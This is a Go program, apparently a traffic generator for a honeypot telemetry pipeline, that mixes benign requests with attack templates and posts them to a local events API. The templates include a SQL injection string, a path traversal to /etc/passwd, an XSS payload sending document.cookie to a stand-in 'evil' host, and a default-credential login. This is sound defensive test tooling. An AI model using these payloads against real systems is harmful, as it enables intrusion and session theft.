package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand"
	"net/http"
	"os"
	"strconv"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/trapsight/trap-telemetry/pkg/models"
)

const (
	defaultAttackerCount = 5
	defaultIntervalMs    = 1000 // 1 second
)

var benignPaths = []string{
	"/", "/index.html", "/api/items", "/api/items/42", "/products",
	"/products/7", "/about", "/contact", "/login", "/static/app.js",
}

var benignAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
}

// attackTemplates mix known attack shapes into the generated traffic
var attackTemplates = []models.RawCapture{
	{
		Method:      "GET",
		Path:        "/api/honeypots/users",
		QueryParams: map[string]string{"id": "1 UNION SELECT username, password FROM users--"},
		UserAgent:   "sqlmap/1.7.2",
	},
	{
		Method:      "GET",
		Path:        "/files",
		QueryParams: map[string]string{"name": "../../../../etc/passwd"},
		UserAgent:   "curl/8.4.0",
	},
	{
		Method:    "POST",
		Path:      "/comments",
		Body:      []byte(`{"body":"<script>document.location='http://evil/c?'+document.cookie</script>"}`),
		UserAgent: "python-requests/2.31",
	},
	{
		Method:    "POST",
		Path:      "/wp-login.php",
		Body:      []byte(`log=admin&pwd=admin123`),
		UserAgent: "Mozilla/5.0 (compatible; bot)",
	},
}

func main() {
	rng := rand.New(rand.NewSource(time.Now().UnixNano()))

	// Get configuration from environment variables
	apiURL := getEnv("TRAP_API_URL", "http://localhost:8080")
	attackerCount, _ := strconv.Atoi(getEnv("ATTACKER_COUNT", fmt.Sprintf("%d", defaultAttackerCount)))
	intervalMs, _ := strconv.Atoi(getEnv("INTERVAL_MS", fmt.Sprintf("%d", defaultIntervalMs)))
	attackRatio, _ := strconv.ParseFloat(getEnv("ATTACK_RATIO", "0.2"), 64)

	sources := make([]string, attackerCount)
	for i := range sources {
		sources[i] = fmt.Sprintf("198.51.100.%d", i+1)
	}

	logrus.Infof("Simulating %d sources against %s every %d ms (attack ratio %.2f)",
		attackerCount, apiURL, intervalMs, attackRatio)

	client := &http.Client{Timeout: 5 * time.Second}
	ticker := time.NewTicker(time.Duration(intervalMs) * time.Millisecond)
	defer ticker.Stop()

	for range ticker.C {
		source := sources[rng.Intn(len(sources))]
		capture := nextCapture(rng, attackRatio)
		capture.RemoteAddr = fmt.Sprintf("%s:%d", source, 1024+rng.Intn(60000))
		capture.Timestamp = time.Now().UTC()

		if err := submit(client, apiURL, capture); err != nil {
			logrus.Warnf("Submit failed: %v", err)
		}
	}
}

func nextCapture(rng *rand.Rand, attackRatio float64) models.RawCapture {
	if rng.Float64() < attackRatio {
		return attackTemplates[rng.Intn(len(attackTemplates))]
	}
	return models.RawCapture{
		Method:    "GET",
		Path:      benignPaths[rng.Intn(len(benignPaths))],
		UserAgent: benignAgents[rng.Intn(len(benignAgents))],
	}
}

func submit(client *http.Client, apiURL string, capture models.RawCapture) error {
	data, err := json.Marshal(capture)
	if err != nil {
		return err
	}

	resp, err := client.Post(apiURL+"/api/events", "application/json", bytes.NewReader(data))
	if err != nil {
		return err
	}
	defer resp.Body.Close()

	switch resp.StatusCode {
	case http.StatusAccepted:
		logrus.Debugf("Accepted %s %s from %s", capture.Method, capture.Path, capture.RemoteAddr)
		return nil
	case http.StatusTooManyRequests:
		logrus.Warn("Pipeline backpressure, capture dropped")
		return nil
	default:
		return fmt.Errorf("unexpected status %d", resp.StatusCode)
	}
}

func getEnv(key, fallback string) string {
	if value, ok := os.LookupEnv(key); ok {
		return value
	}
	return fallback
}
